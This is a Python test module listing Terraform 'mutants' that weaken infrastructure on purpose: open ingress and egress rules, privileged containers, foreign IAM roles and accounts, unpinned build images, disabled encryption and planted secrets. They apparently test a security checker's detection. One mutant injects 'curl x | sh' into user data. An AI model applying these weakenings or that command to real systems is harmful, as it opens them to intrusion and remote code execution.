"""More ways to weaken what gen-infra renders, by kind: networks, instances, builds, containers and terraform itself."""

from __future__ import annotations

from tests.tools.check.mutants import Mutant

_BACKEND = "terraform/backend.tf"
_FLOW_LOGS = "terraform/modules/network/flow_logs.tf"
_FUNCTIONS = "terraform/modules/job-functions/main.tf"
_JOBS = "terraform/jobs.tf"
_MAIN = "terraform/main.tf"
_NETWORK = "terraform/modules/network/main.tf"
_PIPELINE = "terraform/modules/image-pipeline/main.tf"
_PROVIDERS = "terraform/providers.tf"
_REPOSITORY = "terraform/modules/repository/main.tf"
_TEMPLATE = "terraform/modules/compute-environment/main.tf"
_VERSIONS = "terraform/versions.tf"


def _rule(direction: str, cidr: str, protocol: str = "tcp", first: int = 22, last: int = 22) -> str:
    family = "cidr_ipv6" if ":" in cidr else "cidr_ipv4"
    return (
        f'\nresource "aws_vpc_security_group_{direction}_rule" "hole" {{\n  security_group_id = "sg-0"\n'
        f'  description = "a hole"\n  {family} = "{cidr}"\n  ip_protocol = "{protocol}"\n'
        f"  from_port = {first}\n  to_port = {last}\n}}\n"
    )


_RANGES = (
    *("0.0.0.0/1", "128.0.0.0/1", "64.0.0.0/2", "192.0.0.0/3", "8.0.0.0/5", "52.0.0.0/8"),
    *("2000::/3", "::/1", "8000::/1", "2600::/12", "2a00::/16"),
)
NETWORK = (
    *(Mutant(f"in: {each}", "GI_NET_2", _MAIN, "", _rule("ingress", each)) for each in _RANGES),
    *(Mutant(f"out: {each}", "GI_NET_3", _MAIN, "", _rule("egress", each, "-1")) for each in _RANGES),
    Mutant("out: half of the ports", "GI_NET_3", _MAIN, "", _rule("egress", "0.0.0.0/0", "tcp", 0, 32767)),
    Mutant("out: all of UDP", "GI_NET_3", _MAIN, "", _rule("egress", "0.0.0.0/0", "udp", 0, 65535)),
    *(
        Mutant(f"flow log: {name}", found, _FLOW_LOGS, old, new, "demo")
        for name, found, old, new in (
            ("rejected traffic only", "GI_TF_7", '"ALL"', '"REJECT"'),
            ("another group", "GI_TF_8", "= aws_cloudwatch_log_group.flow_logs.arn", '= "arn:aws:logs:x"'),
            ("another role", "GI_TF_8", "= aws_iam_role.flow_logs.arn", '= "arn:aws:iam::999999999999:role/x"'),
            ("another network", "GI_TF_8", "  vpc_id          = aws_vpc.this.id", '  vpc_id = "vpc-0"'),
            ("none", "GI_TF_6", '  traffic_type    = "ALL"', '  traffic_type = "ALL"\n  count = 0'),
        )
    ),
    *(
        Mutant(f"network: {name}", found, _NETWORK, old, new, "demo")
        for name, found, old, new in (
            ("public addresses", "GI_TF_7", "map_public_ip_on_launch = false", "map_public_ip_on_launch = true"),
            (
                "a route to a peer",
                "GI_TF_6",
                "  gateway_id             = aws_internet_gateway.this[0].id",
                '  vpc_peering_connection_id = "pcx-0"',
            ),
            ("a route through an instance", "GI_TF_6", "  nat_gateway_id         =", "  network_interface_id ="),
            ("a route to another gateway", "GI_TF_8", "= aws_internet_gateway.this[0].id", '= "igw-0"'),
            ("a route elsewhere", "GI_TF_7", '"0.0.0.0/0"', '"10.0.0.0/8"'),
            (
                "an endpoint of others",
                "GI_TF_7",
                '"com.amazonaws.${var.region}.s3"',
                '"com.amazonaws.vpce.us-east-1.vpce-svc-0"',
            ),
            (
                "a policy of an endpoint",
                "GI_TF_6",
                '  vpc_endpoint_type = "Gateway"',
                '  vpc_endpoint_type = "Gateway"\n  policy = "{}"',
            ),
            (
                "the default group lets in",
                "GI_TF_6",
                '/default" }\n',
                '/default" }\n  ingress {\n    self = true\n'
                "    protocol = -1\n    from_port = 0\n    to_port = 0\n  }\n",
            ),
            (
                "the default group lets out",
                "GI_TF_6",
                '/default" }\n',
                '/default" }\n  egress {\n    protocol = -1\n'
                '    from_port = 0\n    to_port = 0\n    cidr_blocks = ["0.0.0.0/0"]\n  }\n',
            ),
            (
                "the default group of another network",
                "GI_TF_8",
                'group" "this" {\n  vpc_id = aws_vpc.this.id',
                'group" "this" {\n  vpc_id = "vpc-0"',
            ),
            (
                "a subnet of an outpost",
                "GI_TF_6",
                "  map_public_ip_on_launch = false",
                '  map_public_ip_on_launch = false\n  outpost_arn = "x"',
            ),
        )
    ),
    *(
        Mutant(f"network: {kind}", "GI_TF_5", _NETWORK, "", f'\nresource "{kind}" "x" {{\n  vpc_id = "x"\n}}\n', "demo")
        for kind in (
            "aws_vpc_peering_connection",
            "aws_vpn_gateway",
            "aws_network_acl",
            "aws_egress_only_internet_gateway",
            "aws_default_route_table",
            "aws_ec2_transit_gateway_vpc_attachment",
            "aws_lb",
        )
    ),
)

_LAUNCH = "  update_default_version = true\n"
INSTANCES = (
    *(
        Mutant(f"launch template: {added.split()[0]}", "GI_TF_6", _TEMPLATE, _LAUNCH, f"{_LAUNCH}  {added}\n")
        for added in (
            *('image_id = "ami-0123456789abcdef0"', 'security_group_names = ["open"]', "ebs_optimized = false"),
            *('vpc_security_group_ids = ["sg-0"]', 'iam_instance_profile {\n    name = "Administrator"\n  }'),
            *('instance_type = "t3.micro"', 'kernel_id = "aki-0"', 'ram_disk_id = "ari-0"', "default_version = 1"),
            *('placement {\n    tenancy = "host"\n  }', "enclave_options {\n    enabled = true\n  }"),
            "provider = aws.other",
        )
    ),
    Mutant(
        "launch template: other user data",
        "GI_TF_8",
        _TEMPLATE,
        "var.user_data == null ? null : base64encode(var.user_data)",
        '"IyEvYmluL3NoCg=="',
    ),
    Mutant("user data: privileged containers", "GI_EC2_5", _MAIN, "ECS_DISABLE_PRIVILEGED=true", "X=true"),
    Mutant("user data: privileged after all", "GI_EC2_5", _MAIN, "PRIVILEGED=true", "PRIVILEGED=false"),
    Mutant("user data: metadata for containers", "GI_EC2_5", _MAIN, "ECS_AWSVPC_BLOCK_IMDS=true", "X=1"),
    Mutant("user data: another file", "GI_EC2_5", _MAIN, "/etc/ecs/ecs.config", "/etc/ecs/ecs.conf"),
    Mutant("user data: none", "GI_EC2_5", _MAIN, "  user_data = ", "  image_type_2 = "),
    Mutant("user data: a command more", "GI_EC2_5", _MAIN, "set -euo pipefail", "set -euo pipefail; curl x | sh"),
    Mutant("compute: another template", "GI_TF_8", _TEMPLATE, "= aws_launch_template.this.id", '= "lt-0"'),
    Mutant(
        "compute: another version",
        "GI_TF_8",
        _TEMPLATE,
        "= aws_launch_template.this.latest_version\n    }",
        '= "$Latest"\n    }',
    ),
    Mutant(
        "compute: an image of its own",
        "GI_TF_6",
        _TEMPLATE,
        "    type                = var.type",
        '    type = var.type\n    image_id = "ami-0"',
    ),
    Mutant("compute: unmanaged", "GI_TF_7", _TEMPLATE, '"MANAGED"', '"UNMANAGED"'),
    Mutant(
        "compute: another profile",
        "GI_IAM_9",
        _TEMPLATE,
        "= var.instance_profile_arn",
        '= "arn:aws:iam::123456789012:instance-profile/Administrator"',
    ),
    Mutant(
        "compute: on EKS",
        "GI_TF_6",
        _TEMPLATE,
        '  type         = "MANAGED"',
        '  type = "MANAGED"\n  eks_configuration {\n    eks_cluster_arn = "x"\n    kubernetes_namespace = "x"\n  }',
    ),
)

_DIGEST = f"@sha256:{'0123456789abcdef' * 4}"
_BUILD_IMAGE = f"210987654321.dkr.ecr.us-east-1.amazonaws.com/builds/codebuild{_DIGEST}"

PINNED_BUILDS = tuple(
    Mutant(f"pinned build: {name}", "GI_TF_7", path, old, new, "pinned-build")
    for name, path, old, new in (
        ("of a tag", _MAIN, _DIGEST, ":5.0"),
        ("of another registry", _MAIN, "210987654321.dkr", "666666666666.dkr"),
        ("of another repository", _MAIN, "builds/codebuild@", "builds/other@"),
        ("of another digest", _MAIN, _DIGEST, f"@sha256:{'0' * 64}"),
        (
            "of a host that looks alike",
            _MAIN,
            "us-east-1.amazonaws.com/builds",
            "us-east-1.amazonaws-com.example/builds",
        ),
        ("in CodeBuild's own image", _MAIN, f'  codebuild_image     = "{_BUILD_IMAGE}"\n', ""),
        ("pulled by CodeBuild", _PIPELINE, '"CODEBUILD" : "SERVICE_ROLE"', '"CODEBUILD" : "CODEBUILD"'),
    )
)

BUILDS = tuple(
    Mutant(f"build: {name}", found, _PIPELINE, old, new, "image-rebuild")
    for name, found, old, new in (
        ("from GitHub", "GI_TF_7", '"S3"', '"GITHUB"'),
        ("of another source", "GI_TF_8", '"${aws_s3_object.source.bucket}/${aws_s3_object.source.key}"', '"mallory/x"'),
        ("of any version", "GI_TF_7", "  source_version = aws_s3_object.source.version_id\n", ""),
        ("of an older version", "GI_TF_8", "aws_s3_object.source.version_id", '"3sL4kqtJlcpXroDTDmJ"'),
        ("of its own commands", "GI_TF_6", '    type     = "S3"', '    type = "S3"\n    buildspec = "version: 0.2"'),
        ("in another image", "GI_TF_7", '"aws/codebuild/amazonlinux-x86_64-standard:5.0"', '"mallory/build:1"'),
        ("with privileges", "GI_TF_7", "privileged_mode = false", "privileged_mode = true"),
        ("on a server", "GI_TF_7", '"LINUX_CONTAINER"', '"LINUX_EC2"'),
        (
            "with a variable",
            "GI_TF_6",
            "    privileged_mode = false",
            '    privileged_mode = false\n    environment_variable {\n      name = "A"\n      value = "b"\n    }',
        ),
        ("in any network", "GI_TF_7", "    vpc_id             = data.aws_subnet.first.vpc_id\n", ""),
        ("without groups", "GI_TF_7", "    security_group_ids = var.security_group_ids\n", ""),
        ("with artifacts", "GI_TF_7", '"NO_ARTIFACTS"', '"S3"'),
        ("with AWS's key", "GI_TF_7", "  encryption_key         = var.kms_key_arn\n", ""),
        (
            "with another role",
            "GI_TF_8",
            "= aws_iam_role.build.arn",
            '= "arn:aws:iam::123456789012:role/Administrator"',
        ),
        (
            "with a public badge",
            "GI_TF_6",
            "  concurrent_build_limit = 1",
            '  concurrent_build_limit = 1\n  project_visibility = "PUBLIC_READ"',
        ),
        (
            "with a second source",
            "GI_TF_6",
            "  artifacts {",
            '  secondary_sources {\n    type = "GITHUB"\n  }\n\n  artifacts {',
        ),
        ("with a cache", "GI_TF_6", "  artifacts {", '  cache {\n    type = "S3"\n  }\n\n  artifacts {'),
        ("started by others", "GI_TF_8", "= aws_iam_role.schedule.arn", '= "arn:aws:iam::123456789012:role/Other"'),
        ("starts something else", "GI_TF_8", "= aws_codebuild_project.this.arn", '= "arn:aws:lambda:x"'),
        ("without a record of its source", "GI_TF_7", "  source_hash = filesha256(var.source_path)\n", ""),
        (
            "of a public source",
            "GI_TF_6",
            "  key         = var.source_key",
            '  key = var.source_key\n  acl = "public-read"',
        ),
    )
)

_ENVIRONMENT = "    environment = []"
_SEVERAL = "            environment = []"
CONTAINERS = (
    *(
        Mutant(f"job: {name}", found, _JOBS, _ENVIRONMENT, f"{_ENVIRONMENT}\n    {added}")
        for name, found, added in (
            ("privileged, as a text", "GI_BATCH_1", 'privileged = "True"'),
            ("privileged, as a number", "GI_BATCH_1", "privileged = 1"),
            ("capabilities", "GI_BATCH_5", 'linuxParameters = { capabilities = { add = ["SYS_ADMIN"] } }'),
            ("the host's network", "GI_BATCH_5", 'networkMode = "host"'),
            ("security options", "GI_BATCH_5", 'dockerSecurityOptions = ["label:disable"]'),
            ("kernel parameters", "GI_BATCH_5", 'systemControls = [{ namespace = "a", value = "b" }]'),
        )
    ),
    *(
        Mutant(f"several: {name}", found, _JOBS, _SEVERAL, f"{_SEVERAL}\n            {added}", "several-containers")
        for name, found, added in (
            ("privileged, as a text", "GI_BATCH_1", 'privileged = "1"'),
            ("capabilities", "GI_BATCH_5", 'linuxParameters = { capabilities = { add = ["NET_ADMIN"] } }'),
            ("a firelens", "GI_BATCH_5", 'firelensConfiguration = { type = "fluentbit" }'),
        )
    ),
    Mutant(
        "several: the host's messages",
        "GI_BATCH_2",
        _JOBS,
        'pidMode = "task"',
        'ipcMode = "host"',
        "several-containers",
    ),
    Mutant(
        "nodes: privileged",
        "GI_BATCH_1",
        _JOBS,
        "          environment = [\n",
        "          privileged = true\n          environment = [\n",
        "multi-node",
    ),
    Mutant(
        "job: on EKS",
        "GI_TF_6",
        _JOBS,
        '  type                       = "container"',
        '  type = "container"\n  eks_properties {\n    pod_properties {\n      host_network = true\n    }\n  }',
    ),
    Mutant(
        "job: on EKS, in the plan too",
        "GI_BATCH_1",
        _JOBS,
        '  type                       = "container"',
        '  type = "container"\n  eks_properties {\n    pod_properties {\n    }\n  }',
    ),
    *(
        Mutant(f"secret in a command: {name}", "GI_BATCH_3", _JOBS, '      "--working_dir",', f"      {words},")
        for name, words in (
            ("an access key", '"AKIAIOSFODNN7EXAMPLE"'),
            ("a password's option", '"--password", "hunter2"'),
            ("a user", '"curl", "--user", "admin:hunter2secret"'),
            ("a URL", '"postgres://u:p4ssw0rd@h/db"'),
        )
    ),
    *(
        Mutant(f"secret in a parameter: {name}", "GI_BATCH_3", _JOBS, "    sample = ", f"    {line}\n    sample = ")
        for name, line in (
            ("a password", 'db_password = "hunter2"'),
            ("an access key", 'reads = "AKIAIOSFODNN7EXAMPLE"'),
            ("a URL", 'reads = "https://user:p4ssw0rd@example.com/x"'),
        )
    ),
)

_PROVIDER = '\nprovider "aws" {'
TERRAFORM = (
    *(
        Mutant(f"provider: {added.split()[0]}", "GI_TF_6", _PROVIDERS, _PROVIDER, f"{_PROVIDER}\n  {added}")
        for added in (
            *('assume_role {\n    role_arn = "arn:aws:iam::999999999999:role/x"\n  }', 'profile = "other"'),
            *('shared_credentials_files = ["x"]', "skip_credentials_validation = true", 'http_proxy = "http://x"'),
            *('custom_ca_bundle = "x"', 'ec2_metadata_service_endpoint = "http://x"', "s3_use_path_style = true"),
            *('assume_role_with_web_identity {\n    role_arn = "x"\n  }', 'sts_region = "us-east-1"'),
        )
    ),
    Mutant("provider: another account", "GI_TF_1", _PROVIDERS, '["123456789012"]', '["999999999999"]'),
    Mutant("provider: a second account", "GI_TF_1", _PROVIDERS, '["123456789012"]', '["123456789012", "999999999999"]'),
    Mutant(
        "provider: a second one",
        "GI_TF_1",
        _PROVIDERS,
        "",
        '\nprovider "aws" {\n  alias = "other"\n  allowed_account_ids = ["123456789012"]\n}\n',
    ),
    *(
        Mutant(f"provider: version {version}", "GI_TF_4", _VERSIONS, '"~> 5.100"', f'"{version}"')
        for version in (">= 5.0", "> 0", "~> 5", "!= 5.100", "~> 5.100, >= 4")
    ),
    Mutant("provider: no version", "GI_TF_4", _VERSIONS, '      version = "~> 5.100"\n', ""),
    Mutant("provider: another registry", "GI_TF_4", _VERSIONS, '"hashicorp/aws"', '"example.com/hashicorp/aws"'),
    Mutant(
        "provider: another kind",
        "GI_TF_4",
        _VERSIONS,
        "    aws = {",
        '    null = {\n      source = "x/null"\n    }\n    aws = {',
    ),
    Mutant("terraform: any version", "GI_TF_4", _VERSIONS, '  required_version = ">= 1.10"\n', ""),
    *(
        Mutant(
            f"backend: {added.split()[0]}",
            "GI_TF_6",
            _BACKEND,
            "    use_lockfile = true",
            f"    use_lockfile = true\n    {added}",
        )
        for added in (
            *("encrypt = false", 'endpoints = { s3 = "http://x" }', 'endpoint = "http://x"', 'acl = "public-read"'),
            *('role_arn = "arn:aws:iam::999999999999:role/x"', 'profile = "x"', "skip_credentials_validation = true"),
            *('access_key = "x"', "insecure = true"),
        )
    ),
    Mutant("backend: no lock", "GI_TF_4", _BACKEND, "    use_lockfile = true\n", ""),
    Mutant(
        "backend: over HTTP",
        "GI_TF_6",
        _BACKEND,
        "",
        '\nterraform {\n  backend "http" {\n    address = "http://x"\n  }\n}\n',
    ),
    Mutant("backend: elsewhere", "GI_TF_4", _BACKEND, "", '\nterraform {\n  backend "http" {\n  }\n}\n'),
    Mutant("backend: a cloud", "GI_TF_6", _BACKEND, "", '\nterraform {\n  cloud {\n    organization = "x"\n  }\n}\n'),
    *(
        Mutant(f"data: {kind}", "GI_TF_5", _MAIN, "", f'\ndata "{kind}" "x" {{\n}}\n')
        for kind in (
            "aws_secretsmanager_secret_version",
            "aws_lambda_invocation",
            "terraform_remote_state",
            "local_file",
        )
    ),
    Mutant("parameter: decrypted", "GI_TF_7", _MAIN, "with_decryption = false", "with_decryption = true"),
    Mutant(
        "module: another provider",
        "GI_TF_6",
        _MAIN,
        '  source = "./modules/encryption"',
        '  source = "./modules/encryption"\n  providers = { aws = aws.other }',
    ),
    Mutant("image: tags move, and the check is ours", "GI_TF_7", _REPOSITORY, '"IMMUTABLE"', '"MUTABLE"'),
    Mutant(
        "image: not scanned, and the check is ours",
        "GI_TF_7",
        _REPOSITORY,
        "scan_on_push = true",
        "scan_on_push = false",
    ),
    *(
        Mutant(f"function: {name}", found, _FUNCTIONS, old, new)
        for name, found, old, new in (
            (
                "another role",
                "GI_TF_8",
                "= aws_iam_role.this[each.key].arn",
                '= "arn:aws:iam::123456789012:role/Other"',
            ),
            ("another package", "GI_TF_8", "= var.package_path\n  source", '= "other.zip"\n  source'),
            (
                "a layer",
                "GI_TF_6",
                "  memory_size ",
                '  layers = ["arn:aws:lambda:us-east-1:999999999999:layer:x:1"]\n  memory_size ',
            ),
            ("an image", "GI_TF_6", "  memory_size ", '  image_uri = "mallory/x:1"\n  memory_size '),
            ("another handler", "GI_TF_7", "= each.value.handler", '= "other.handler"'),
            ("no key of its own", "GI_TF_7", "  kms_key_arn                    = var.kms_key_arn\n", ""),
        )
    ),
)

SETTING_MUTANTS = (*NETWORK, *INSTANCES, *BUILDS, *PINNED_BUILDS, *CONTAINERS, *TERRAFORM)
